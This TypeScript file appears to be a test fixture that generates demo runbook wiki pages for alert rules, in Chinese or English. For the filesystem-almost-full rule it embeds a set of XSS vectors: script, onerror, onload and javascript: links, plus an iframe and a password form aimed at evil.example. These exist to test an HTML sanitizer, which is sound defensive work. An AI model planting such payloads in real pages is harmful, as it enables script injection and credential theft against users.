import { createHash } from 'node:crypto';
import { ALERT_RULES, SCALE_RULES, WATCHDOG_RULE } from '../estate/alert-rules.js';
import type { AlertRule } from '../estate/alert-rules.js';
import { DEMO_ESTATE, indexEstate } from '../estate/estate.js';

/**
 * The demo company's wiki pages for the `runbook_url`s its alerts carry
 * (https://runbooks.demo.example/<service>/<alert-in-kebab-case>): Chinese for the Chinese-only
 * teams, English otherwise; some structured markdown with front matter, some plain wiki HTML (with
 * navigation the vault cuts away), and one page carrying an XSS payload the sanitizer must defuse.
 */

const DAY_MS = 86_400_000;
const index = indexEstate(DEMO_ESTATE);

const kebab = (name: string) =>
  name
    .replace(/([a-z0-9])([A-Z])/g, '$1-$2')
    .replace(/([A-Z]+)([A-Z][a-z])/g, '$1-$2')
    .toLowerCase();

const RULES = new Map<string, AlertRule>(
  [...ALERT_RULES, ...SCALE_RULES, WATCHDOG_RULE].map((rule) => [kebab(rule.name), rule]),
);

/** The service and rule whose page carries the XSS payload (a disk rule, so it is easy to find). */
export const XSS_PAGE_RULE = 'node-filesystem-almost-full';

export type RunbookPage = Readonly<{ contentType: string; body: string; etag: string }>;

function hashOf(text: string): number {
  return createHash('sha256').update(text).digest().readUInt32BE(0);
}

const generic = (text: string, service: string, zh: boolean) =>
  text
    .replaceAll('{service}', service)
    .replace(/\{(node|instance|pod)\}/g, zh ? '实例' : 'the instance')
    .replace(/\{cluster\}/g, zh ? '集群' : 'the cluster')
    .replace(/\{namespace\}/g, service)
    .replace(/\{value\}/g, zh ? '阈值' : 'the threshold');

const isDisk = (rule: AlertRule) => /disk|filesystem/i.test(rule.name);

function stepsZh(rule: AlertRule): string {
  const fix = isDisk(rule)
    ? '3. 止血：清理 /var/log 与旧镜像，必要时扩容磁盘（10 分钟）\n   - 检查：磁盘使用率低于 80%\n   - 回滚：恢复被移走的文件'
    : '3. 止血：回滚最近一次发布或扩容（10 分钟）\n   - 检查：错误率回到目标以内\n   - 回滚：重新发布上一个版本';
  return `## 处置步骤\n\n1. 在大盘上确认告警（2 分钟）\n   - 检查：面板数值与告警一致\n2. 定位：查看最近变更、发布与流量（5 分钟）\n${fix}\n4. 验证并发出恢复通告（3 分钟）\n`;
}

function stepsEn(rule: AlertRule): string {
  const fix = isDisk(rule)
    ? '3. Mitigate: clean /var/log and old images, grow the disk if needed (10 min)\n   - Check: disk usage under 80%\n   - Rollback: restore the moved files'
    : '3. Mitigate: roll back the latest release or scale out (10 min)\n   - Check: error rate back within the objective\n   - Rollback: re-deploy the previous version';
  return `## Steps\n\n1. Confirm the alert on the dashboard (2 min)\n   - Check: the panel shows the same value\n2. Find the cause: recent changes, deploys, traffic (5 min)\n${fix}\n4. Verify and announce recovery (3 min)\n`;
}

const XSS_HTML = `
<h2>Known issues</h2>
<p>See <a href="javascript:alert('xss-link')">the old console</a> or <a href="https://wiki.demo.example/disk">the disk guide</a>.</p>
<img src="x" onerror="window.__runbookXss = 'img'">
<script>window.__runbookXss = 'script'</script>
<iframe src="https://evil.example/"></iframe>
<div style="position:fixed;inset:0;background:red" onclick="window.__runbookXss = 'click'">overlay</div>
<svg onload="window.__runbookXss = 'svg'"><circle r="5"/></svg>
<form action="https://evil.example/"><input name="password"></form>`;

/** The page for a path, or undefined when no such service and rule exist. */
export function runbookPage(path: string, nowMs: number): RunbookPage | undefined {
  const [serviceId, ruleName] = path.split('/').filter(Boolean);
  if (!serviceId || !ruleName) return undefined;
  const rule = RULES.get(ruleName);
  let service;
  try {
    service = index.service(serviceId);
  } catch {
    return undefined;
  }
  if (!rule) return undefined;
  const zh = index.team(service.team).annotationLanguage === 'zh';
  const seed = hashOf(path);
  const title = zh
    ? `预案：${generic(rule.summary.zh, service.id, true)}`
    : `Runbook: ${generic(rule.summary.en, service.id, false)}`;
  const about = generic(zh ? rule.description.zh : rule.description.en, service.id, zh);
  const steps = zh ? stepsZh(rule) : stepsEn(rule);
  const xss = ruleName === XSS_PAGE_RULE;
  let contentType: string;
  let body: string;
  if (!xss && seed % 3 !== 1) {
    // Drilled a few weeks ago, one in five long ago (its shelf life shows).
    const drilledDaysAgo = seed % 5 === 0 ? 200 + (seed % 60) : 5 + (seed % 50);
    const lastDrill = new Date(nowMs - drilledDaysAgo * DAY_MS).toISOString().slice(0, 10);
    contentType = 'text/markdown; charset=utf-8';
    body = `---\ntitle: "${title}"\nservices: [${service.id}]\nalerts: [${rule.name}]\nowner: ${service.team}\nlast_drill: ${lastDrill}\n---\n\n# ${title}\n\n${about}\n\n${steps}\n## ${zh ? '联系人' : 'Contacts'}\n\n${zh ? '值班组' : 'On-call team'}: ${service.team}\n`;
  } else {
    contentType = 'text/html; charset=utf-8';
    const list = steps
      .split('\n')
      .filter((line) => /^\d+\./.test(line))
      .map((line) => `<li>${line.replace(/^\d+\.\s*/, '')}</li>`)
      .join('');
    body = `<!doctype html><html><head><title>${title}</title></head><body>
<header><nav><a href="/">Wiki home</a> · <a href="/login">Sign in</a></nav></header>
<main><h1>${title}</h1><p>${about}</p><h2>${zh ? '处置步骤' : 'Steps'}</h2><ol>${list}</ol>${xss ? XSS_HTML : ''}</main>
<footer>Demo wiki · edit this page</footer></body></html>`;
  }
  return { contentType, body, etag: `"${createHash('sha256').update(body).digest('hex').slice(0, 16)}"` };
}
